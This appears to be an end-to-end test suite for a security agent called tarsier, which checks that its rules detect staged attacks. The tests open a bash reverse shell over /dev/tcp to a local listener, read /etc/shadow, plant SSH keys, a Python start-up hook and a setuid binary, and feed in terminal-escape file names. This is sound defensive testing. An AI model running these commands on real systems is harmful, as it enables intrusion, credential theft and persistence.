/** The product, end to end: the agent as a user starts it, real attacks, findings on standard output. */
import { spawn, spawnSync } from 'node:child_process'
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { cgroupsRoot } from '../../src/pipeline/responses/cgroups-root.ts'
import { ROOT, type RunningTarsier, startTarsier, tarsier, until } from '../tarsier.ts'
import { cannotObserve, compileProgram, type Program } from './observe.ts'

const reason = cannotObserve()
const folder = mkdtempSync(join(tmpdir(), 'tarsier-run-'))
const odd = join(folder, 'odd')
const running: RunningTarsier[] = []
let uring: Program
let process_: Program

beforeAll(() => {
  if (reason !== undefined) return
  uring = compileProgram('uring')
  process_ = compileProgram('process')
  copyFileSync('/bin/cat', odd)
})
beforeEach(({ skip }) => {
  if (reason !== undefined) skip(reason)
})
afterEach(async () => {
  for (const one of running.splice(0)) await one.stop('SIGKILL')
})
afterAll(() => {
  uring?.remove()
  process_?.remove()
  rmSync(folder, { recursive: true })
})

async function start(args: readonly string[]): Promise<RunningTarsier> {
  const started = await startTarsier(args)
  running.push(started)
  return started
}

/** A rule for one test alone, in a file. */
function ruleFile(condition: string, output = 'opened %fd.name by %proc.cmdline'): string {
  const path = join(folder, 'rule.yaml')
  writeFileSync(path, JSON.stringify([{ rule: 'Watched', desc: 'A test.', condition, output, priority: 'NOTICE' }]))
  return path
}

/** Node.js calls its first thread MainThread. */
test('a program of Node.js is called node, whether it began before the agent or after', async () => {
  const watched = join(folder, 'of-node')
  writeFileSync(watched, '')
  const opens = `require('node:fs').openSync(${JSON.stringify(watched)})`
  const early = spawn(process.execPath, ['-e', `process.stdin.once('data', () => { ${opens}; process.exit() })`], {
    stdio: ['pipe', 'ignore', 'inherit'],
  })
  await until(
    () => readFileSync(`/proc/${early.pid}/comm`, 'utf8') === 'MainThread\n',
    10_000,
    () => 'its name',
  )
  const agent = await start(['run', '--format', 'json', '--rules', ruleFile(`fd.name = ${watched} and proc.name = node`)])
  early.stdin.write('go')
  const late = spawn(process.execPath, ['-e', `setTimeout(() => ${opens}, 50)`], { stdio: 'ignore' })
  for (const { pid } of [early, late]) {
    const found = await agent.finding(({ lineage, process: key }) => lineage[0]?.name === 'node' && key?.startsWith(`${pid}@`) === true)
    expect(found.output).toMatch(/by node -e /)
  }
})

test('a container that has ended before the agent could look is known all the same', async ({ skip }) => {
  const root = cgroupsRoot()
  if (!existsSync(join(root, 'cgroup.procs'))) skip('cgroup v2 is not mounted')
  const watched = join(folder, 'of-container')
  writeFileSync(watched, '')
  const rule = ruleFile(`fd.name = ${watched} and proc.name = cat`, 'opened in %container.id')
  const agent = await start(['run', '--format', 'json', '--rules', rule])
  const id = process.pid.toString(16).padStart(64, 'c')
  const group = join(root, `docker-${id}.scope`)
  agent.child.kill('SIGSTOP')
  const script = `mkdir ${group} && echo $$ >${group}/cgroup.procs && unshare -m cat ${watched}; echo $$ >${root}/cgroup.procs; rmdir ${group}`
  const ended = spawnSync('sh', ['-c', script], { encoding: 'utf8' })
  agent.child.kill('SIGCONT')
  expect([ended.stderr, existsSync(group)]).toEqual(['', false])
  await agent.finding(({ output }) => output === `opened in ${id.slice(0, 12)}`)
})

test('doctor asks the agent that runs, and loads nothing that its rules would find', async () => {
  const rules = ['rules/defense-evasion/bpf-program.yaml', 'rules/macros.yaml']
  const agent = await start(['run', '--format', 'json', '--rules', ...rules])
  const { code, stdout } = tarsier(['doctor', '--json'])
  const { checks, watched } = JSON.parse(stdout)
  expect(checks.find(({ name }: { name: string }) => name === 'programs').detail).toMatch(/^an agent runs \(process id \d/)
  expect(watched).toContain('kernel.bpf')
  expect(code).toBe(0)
  const { stdout: printed } = await agent.stop()
  expect(printed).not.toContain('doctor')
})

describe('with the shipped rules', () => {
  test('files moved and linked into place, and setuid from the start, are found though nothing is opened or changed there', async () => {
    const agent = await start(['run', '--format', 'json'])
    const home = join(folder, '.ssh')
    const evil = join(folder, 'dist-packages')
    const key = join(folder, 'key')
    for (const path of [home, evil]) mkdirSync(path)
    writeFileSync(key, '')
    spawnSync('ln', [key, join(home, 'authorized_keys')])
    spawnSync('ln', ['-s', key, join(evil, 'evil.pth')])
    spawnSync('mv', [key, '.profile'], { cwd: folder })
    spawnSync('install', ['-m', '4755', '/bin/true', join(folder, 'planted')])

    for (const [rule, path] of [
      ['SSH authorized keys changed', join(home, 'authorized_keys')],
      ['Python start-up hook written', join(evil, 'evil.pth')],
      ['Shell start-up file changed', join(folder, '.profile')],
      ['Setuid bit set', join(folder, 'planted')],
    ] as const)
      await agent.finding((finding) => finding.rule === rule && finding.output.includes(path))
  })

  test('who stops the agent for a while is found once it goes on', async () => {
    const agent = await start(['run', '--format', 'json'])
    agent.child.kill('SIGSTOP')
    await delay(200)
    agent.child.kill('SIGCONT')
    await agent.finding(({ rule, output }) => rule === 'Security service killed' && output.includes('target=tarsier'))
  })

  test('the four attacks of the README are found, each with its rule, process and lineage', async () => {
    const agent = await start(['run', '--format', 'json'])
    spawnSync(odd, ['/etc/shadow'])
    await process_.run('memfd')
    await reverseShell()
    await uring.run('openat', '/etc/shadow')

    const read = await agent.finding(({ rule, output }) => rule === 'Password file read by an unusual program' && output.includes(odd))
    expect(read).toMatchObject({ priority: 'Warning', count: 1, output_fields: { 'fd.name': '/etc/shadow', 'proc.exepath': odd } })
    expect(read.lineage[0]).toMatchObject({ name: 'odd', exe_path: odd })
    expect(read.lineage.map(({ exe_path }) => exe_path)).toContain(process.execPath)
    await agent.finding(({ rule }) => rule === 'Program run from memory')
    await agent.finding(({ rule, lineage }) => rule === 'Socket put on a standard stream' && lineage[0]?.name === 'bash')
    await agent.finding(
      ({ rule, lineage }) => rule === 'Sensitive file reached around the system call table' && lineage[0]?.name === 'uring',
    )

    const { code, stdout, stderr } = await agent.stop()
    expect(code).toBe(0)
    for (const line of stdout.trim().split('\n')) expect(JSON.parse(line)).toHaveProperty('output_fields')
    expect(stderr).toMatch(/^tarsier: ready \(hooks=\d+, calls=(functions|tracepoints), rules=\d+, processes=\d+, ms=\d+\)$/m)
    expect(stderr).toMatch(/^tarsier: stopped \(seen=\d+, events=\d+, folded=\d+, filtered=\d+, verdicts=\d+, lost=0, findings=\d+,/m)
  })
})

/** What a reverse shell does, to a listener of our own. */
async function reverseShell(): Promise<void> {
  const server = createServer((socket) => socket.end('exit\n'))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  const shell = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' })
  await new Promise((resolve) => shell.on('close', resolve))
  server.close()
}

describe('findings', () => {
  test('equal ones of one process are folded, and the counts add up', async () => {
    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/again`, 'opened by %proc.name')
    const agent = await start(['run', '--rules', rules, '--json', '--fold-window', '300ms'])
    spawnSync('bash', ['-c', `for n in $(seq 50); do echo > ${folder}/again$n; done`])
    await until(() => sum(agent) === 50, 5000, agent.stdout)
    expect(agent.findings().length).toBeLessThan(5)
    expect(agent.findings()[0]?.count).toBe(1)
  })

  const sum = (agent: RunningTarsier): number => agent.findings().reduce((total, { count }) => total + count, 0)

  test('names chosen by an attacker cannot act on a terminal or forge a line', async () => {
    const name = '\x1b]0;owned\x07\n2026 Error fake: \u202egnp'
    const rules = ruleFile(`evt.type in (open, openat, creat) and fd.name startswith ${folder}/x`)
    const agent = await start(['run', '--rules', rules, '--color', 'never'])
    writeFileSync(Buffer.from(`${folder}/x${name}\xff`, 'latin1'), '')
    writeFileSync(`${folder}/x${name}`, '')
    await until(() => agent.stdout().split('\n').length > 2, 5000, agent.stdout)
    const printed = agent.stdout().trimEnd().split('\n')
    expect(printed).toHaveLength(2)
    for (const line of printed) expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u)
    expect(printed[1]).toContain('\\x1b]0;owned\\x07\\x0a2026 Error fake: \\u{202e}gnp')
    expect(printed[0]).toContain('\\xff')
  })

  test('--explain says which predicate was false', async () => {
    const rules = ruleFile(`evt.type in (open, openat) and fd.name = /etc/hostname and proc.name = nobody-is-called-so`)
    const agent = await start(['run', '--rules', rules, '--explain', 'Watched'])
    spawnSync(odd, ['/etc/hostname'])
    await until(() => /= false: proc\.name = nobody-is-called-so {2}\[odd\]/.test(agent.stderr()), 5000, agent.stderr)
  })
})

/** Prints what comes to a datagram socket. */
const RECEIVER = `
  socket(S, PF_UNIX, SOCK_DGRAM, 0) and bind(S, sockaddr_un($ARGV[0])) or die;
  $| = 1;
  while (defined recv(S, my $message, 65536, 0)) { print "$message\\n" }
`

describe('faults', () => {
  test('SIGTERM in the middle of a burst ends it in order within seconds', async () => {
    const agent = await start(['run', '--format', 'json'])
    const burst = spawn('bash', ['-c', 'for n in $(seq 10000); do /bin/true & done; wait'], { stdio: 'ignore' })
    await new Promise((resolve) => setTimeout(resolve, 1000))
    const { code, ms, stdout, stderr } = await agent.stop()
    burst.kill()
    expect(code, stderr).toBe(0)
    expect(ms).toBeLessThan(8000)
    for (const line of stdout.split('\n').filter(Boolean)) JSON.parse(line)
    expect(stderr).toMatch(/^tarsier: stopped \(/m)
  })

  test('SIGINT ends it in order, too', async () => {
    const agent = await start(['run', '--rules', ruleFile('evt.type = openat and fd.name = /no/such/file')])
    expect(await agent.stop('SIGINT')).toMatchObject({ code: 0, stdout: '' })
  })

  test('two agents at once both see the same', async () => {
    const agents = [await start(['run', '--format', 'json']), await start(['run', '--format', 'json'])]
    spawnSync(odd, ['/etc/shadow'])
    for (const agent of agents) await agent.finding(({ rule, output }) => rule.startsWith('Password file read') && output.includes(odd))
    for (const agent of agents) expect(await agent.stop()).toMatchObject({ code: 0 })
  })

  test('a full disk and a dead syslog server are said, counted, and cost the other outputs nothing', async () => {
    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/y`)
    const outputs = ['--output', 'file:/dev/full', '--output', 'syslog+tcp://127.0.0.1:1', '--format', 'json']
    const agent = await start(['run', '--rules', rules, ...outputs])
    for (let n = 0; n < 20; n++) writeFileSync(join(folder, `y${n}`), '')
    await until(() => agent.findings().length === 20, 5000, agent.stderr)
    const { code, stderr } = await agent.stop()
    expect(code).toBe(0)
    expect(stderr.match(/cannot write findings to a file/g)).toHaveLength(1)
    expect(stderr).toMatch(/syslog server cannot be reached.*ECONNREFUSED/)
    expect(stderr).toMatch(/findings_lost=4\d/)
  })

  test('a file output holds what was printed, rotates, and is reopened on SIGHUP', async () => {
    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/z`)
    const path = join(folder, 'out.json')
    const agent = await start(['run', '--rules', rules, '--output', `file:${path}?maxBytes=2000&keep=50`, '--format', 'json'])
    for (let n = 0; n < 10; n++) writeFileSync(join(folder, `z${n}`), '')
    await until(() => agent.findings().length === 10, 5000, agent.stderr)
    agent.child.kill('SIGHUP')
    writeFileSync(join(folder, 'z10'), '')
    await until(() => agent.findings().length === 11, 5000, agent.stderr)
    const { stdout } = await agent.stop()
    const rotated = spawnSync('sh', ['-c', `cat $(ls -v -r ${path}.*) ${path}`], { encoding: 'utf8' }).stdout
    expect(rotated).toBe(stdout)
  })

  test('events that the buffer could not hold are said with kind, CPU and cause, and counted at the end', async () => {
    const rules = ruleFile(`evt.type in (open, openat) and fd.name = ${folder}/none`)
    const agent = await start(['run', '--rules', rules, '--format', 'json', '--ring', '64k', '--no-filters'])
    agent.child.kill('SIGSTOP')
    for (let n = 0; n < 2000; n++) writeFileSync(join(folder, `u${n}`), '')
    agent.child.kill('SIGCONT')
    const lost = await agent.finding(({ rule, output }) => rule === 'Tarsier lost events' && output.includes('file.open'))
    expect(lost.output).toMatch(/^[\d,]+ file\.open events lost on CPU [\d, ]+ because the buffer between kernel and agent was full/)
    await until(() => agent.stderr().includes(`warning: ${lost.output}`), 5000, agent.stderr)
    expect((await agent.stop()).stderr).toMatch(/stopped \(.*lost=[1-9]\d*,/)
  })

  test('a datagram socket such as /dev/log gets findings as syslog messages', async () => {
    const path = join(folder, 'log')
    const receiver = spawn('perl', ['-MSocket', '-e', RECEIVER, path], { stdio: ['ignore', 'pipe', 'inherit'] })
    let received = ''
    receiver.stdout.on('data', (text) => (received += text))
    await until(
      () => existsSync(path),
      5000,
      () => received,
    )
    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/v`)
    const agent = await start(['run', '--rules', rules, '--output', `syslog+unix://${path}?format=text&facility=authpriv`])
    writeFileSync(join(folder, 'v'), '')
    await until(() => received !== '', 5000, agent.stderr)
    receiver.kill()
    expect(received).toMatch(/^<85>1 \d{4}-\S+Z \S+ tarsier \d+ Watched - Notice Watched: opened /)
    expect(await agent.stop()).toMatchObject({ code: 0, stdout: '' })
  })

  test('a reader that goes away ends it quietly', async () => {
    const agent = await start(['run', '--rules', ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/w`)])
    agent.child.stdout?.destroy()
    for (let n = 0; n < 50 && agent.child.exitCode === null; n++) {
      writeFileSync(join(folder, `w${n}`), '')
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    const { code, stderr } = await agent.stop()
    expect(code).toBe(0)
    expect(stderr).not.toMatch(/error|warning/)
  })

  test.each([
    ['without privileges', ['setpriv', '--bounding-set=-all'], 'SENSOR_NO_PRIVILEGE'],
    ['without BTF', ['unshare', '--mount', 'sh', '-c', 'mount -t tmpfs none /sys/kernel/btf && exec "$@"', 'sh'], 'SENSOR_NO_BTF'],
  ])('%s it says what is missing and ends with 3', (_, [wrapper = '', ...args], code) => {
    const { status, stderr } = spawnSync(wrapper, [...args, join(ROOT, 'tarsier'), 'run', '--no-server'], { encoding: 'utf8' })
    expect(stderr).toContain(`[${code}]`)
    expect(status).toBe(3)
  })
})

describe('recordings', () => {
  test('a replay finds what the live run found', async () => {
    const path = join(folder, 'live.tsr')
    const rules = ['--rules', 'rules', ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/r`)]
    const recorder = await start(['record', path])
    const agent = await start(['run', '--format', 'json', ...rules])
    spawnSync(odd, ['/etc/shadow'])
    await process_.run('memfd')
    for (let n = 0; n < 5; n++) writeFileSync(join(folder, `r${n}`), '')
    await until(() => agent.findings().length >= 7, 5000, agent.stdout)
    const { stdout } = await agent.stop()
    expect(await recorder.stop()).toMatchObject({ code: 0 })
    const live = keysOf(stdout)
    const replayed = tarsier(['replay', path, '--format', 'json', ...rules])
    expect(replayed.code, replayed.stderr).toBe(0)
    expect(keysOf(replayed.stdout)).toEqual(expect.arrayContaining(live))
  })

  /** What must be equal: the rest (ids of events, findings about the other agent) may differ. */
  function keysOf(stdout: string): unknown[] {
    const findings = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    const ours = findings.filter(({ output }) => output.includes(folder))
    return ours.map(({ rule, output, process, count, lineage }) => ({ rule, output, process, count, lineage }))
  }

  test('a recording that is cut is replayed as far as it goes, and said', async () => {
    const path = join(folder, 'cut.tsr')
    const recorder = await start(['record', path, '--kinds', 'process'])
    for (let n = 0; n < 50; n++) spawnSync('/bin/true')
    await recorder.stop()
    writeFileSync(path, readFileSync(path).subarray(0, -200))
    const { code, stderr } = tarsier(['replay', path])
    expect(code).toBe(1)
    expect(stderr).toMatch(/breaks off after \d+ bytes.*\[RECORDING_TRUNCATED\]/)
    expect(stderr).toMatch(/replayed \(events=[1-9]/)
  })
})

describe('events', () => {
  test('shows what happens, filtered, and as the input of rules eval', async () => {
    const filter = ['--filter', `fd.name = /etc/hostname and proc.name = odd`]
    const [text, json] = [await start(['events', '--color', 'never', ...filter]), await start(['events', '--json', ...filter])]
    spawnSync(odd, ['/etc/hostname'])
    await until(() => text.stdout() !== '' && json.stdout() !== '', 5000, text.stderr)
    expect(text.stdout()).toMatch(/^\d\d:\d\d:\d\d\.\d{6} odd\[\d+\] root openat\(.*name=\/etc\/hostname flags=O_RDONLY\) = \d+\n$/)
    const rules = ruleFile('evt.type = openat and fd.name = /etc/hostname and proc.exepath endswith /odd')
    const evaluated = tarsier(['rules', 'eval', '--rules', rules], { input: json.stdout() })
    expect(evaluated).toMatchObject({ code: 0, stdout: '1: Watched\n', stderr: '' })
  })
})
